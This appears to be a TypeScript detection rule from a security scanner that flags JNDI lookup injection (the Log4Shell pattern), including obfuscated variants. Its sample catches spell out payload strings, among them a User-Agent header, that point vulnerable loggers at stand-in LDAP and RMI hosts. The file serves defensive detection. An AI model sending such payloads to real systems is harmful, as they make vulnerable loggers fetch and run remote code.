/**
 * The expression itself, with its usual disguises. Advisories that quote it are lowered, not blocked.
 */
import { defineRule } from "@portcullis/engine/static";
import { TALK } from "../targets.ts";
import { re } from "../words.ts";

export default defineRule({
  id: "log-lookup-injection",
  category: "code_execution",
  severity: "critical",
  surfaces: ["tool_argument", "user", "tool_result", "document", "assistant", "unknown"],
  title: "Lookup that makes a logger load code",
  meaning: "A lookup expression that makes vulnerable loggers fetch and run code from an outside directory service.",
  keywords: ["jndi", "${lower", "${upper", "${::", "${env:", "ldap"],
  pattern: re`
    \$\{ ?(?:jndi|\$\{(?:lower|upper|::|env|sys|date)[^}]{0,20}\}[^}]{0,30}?(?:j|n|d|i|\$)[^}]{0,40}|
    j\$\{[^}]{0,20}\})[^}]{0,40}?:? ?(?:\$\{[^}]{0,30}\}){0,4}[a-z]{0,6}:?//[^ }]{3,100}
  `,
  mention: TALK,
  window: 200,
  catches: [
    "«\u0024{jndi:ldap://outside.example/a»}",
    "User-Agent: «\u0024{jndi:rmi://203.0.113.5:1099/x»}",
    "«\u0024{\u0024{lower:j}ndi:ldap://outside.example/z»}",
  ],
  ignores: ["\u0024{env:HOME}/logs", "The jndi lookup feature was removed."],
});
